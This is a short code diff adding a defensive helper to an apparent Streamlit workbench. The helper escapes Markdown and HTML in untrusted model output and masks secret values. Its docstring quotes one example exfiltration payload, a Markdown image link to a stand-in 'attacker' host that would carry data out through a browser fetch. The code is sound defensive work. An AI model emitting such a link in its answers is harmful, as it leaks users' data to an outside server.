@@ -58,3 +58,14 @@ def budget_banner() -> None:
 
 def show_error(exc: Exception) -> None:
     st.error(str(exc))
+
+
+def md_text(text) -> str:
+    """Untrusted text (a model's answer, a row key, a provider's error) inside Markdown, shown as
+    typed: Markdown and HTML syntax are escaped, so `![](http://attacker/?d=...)` stays text and
+    the browser fetches nothing. Known secret values are masked too."""
+    import re
+
+    from workbench import secrets
+
+    return re.sub(r"([\\`*_\[\]()<>#|~$!{}])", r"\\\1", str(secrets.mask(str(text))))
